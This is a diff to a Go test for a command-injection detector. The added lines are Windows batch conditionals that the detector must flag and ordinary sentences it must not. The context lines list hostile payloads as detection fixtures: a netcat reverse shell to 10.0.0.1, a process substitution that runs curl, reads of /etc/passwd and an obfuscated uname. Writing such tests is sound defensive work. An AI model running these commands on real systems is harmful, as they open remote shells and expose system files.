@@ -41,6 +41,8 @@ func TestRCE(t *testing.T) {
 		"<(curl http://h/x)",
 		"FOR /F %G IN ('dir') DO echo %G",
 		"IF EXIST C:\\boot.ini type C:\\boot.ini",
+		"IF %1==x GOTO a",
+		"if not \"%x%\" EQU \"1\" del a",
 		"X=$'uname\\x20-a'&&$X",
 		"nc -e /bin/sh 10.0.0.1 4444",
 		";{{cat /etc/passwd}}",
@@ -75,6 +77,10 @@ func TestRCE(t *testing.T) {
 		"node.js / react",
 		"if a then b",
 		"mail; phone; fax",
+		"If %1, what else must be true?",
+		"If %1 is selected, the file %2 is not used",
+		"It's great; I'd buy it again, but the cable's too short",
+		"time's up; who's next & man's best friend",
 	})
 	recognises(t, RCE, Where{Place: InReferer, Decoded: 1}, []string{
 		"http://h.example/;cat /etc/passwd",
